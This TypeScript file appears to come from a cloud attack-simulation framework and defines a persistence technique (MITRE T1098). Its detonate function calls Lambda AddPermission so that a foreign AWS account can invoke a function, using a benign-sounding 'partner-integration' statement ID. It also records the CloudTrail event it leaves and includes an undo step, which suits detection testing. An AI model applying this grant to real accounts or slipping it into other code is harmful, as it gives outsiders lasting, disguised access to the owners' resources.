import { z } from 'zod';
import { ifThere } from '../../../if-there.ts';
import type { AttackTechnique } from '../../../technique.ts';

const inputs = z.object({
  functionName: z.string().min(1).max(170),
  foreignAccount: z.string().regex(/^\d{12}$/),
});

/** The function’s own policy says who may call it, and keeps saying so. */
export const technique: AttackTechnique<z.infer<typeof inputs>> = {
  id: 'persistence.function-invoke-back-door',
  title: 'Let another account invoke a function',
  purpose: 'The function can be run, and fed, from outside long after the key is gone.',
  mitre: ['T1098'],
  sources: [
    {
      title: 'Account Manipulation, MITRE ATT&CK',
      url: 'https://attack.mitre.org/techniques/T1098/',
    },
    {
      title: 'AddPermission, AWS Lambda API Reference',
      url: 'https://docs.aws.amazon.com/lambda/latest/api/API_AddPermission.html',
    },
  ],
  inputs,
  actsAs: 'insider',
  needsStage: { function: true, queue: true, foreignAccount: true },
  needs: ['lambda:AddPermission'],
  leaves: [
    { service: 'lambda.amazonaws.com', name: 'AddPermission20150331v2', outcome: 'succeeds' },
  ],
  repeatable: false,
  async detonate({ inputs: { functionName, foreignAccount }, aws, say }) {
    say(`Let account ${foreignAccount} invoke ${functionName}`);
    await aws.lambda().addPermission({
      FunctionName: functionName,
      StatementId: STATEMENT,
      Action: 'lambda:InvokeFunction',
      Principal: foreignAccount,
    });
  },
  undo: {
    kind: 'call',
    plan({ inputs: { functionName: FunctionName }, aws }) {
      return Promise.resolve(async () => {
        await ifThere('ResourceNotFoundException', () =>
          aws.lambda().removePermission({ FunctionName, StatementId: STATEMENT }),
        );
      });
    },
  },
};

const STATEMENT = 'partner-integration';
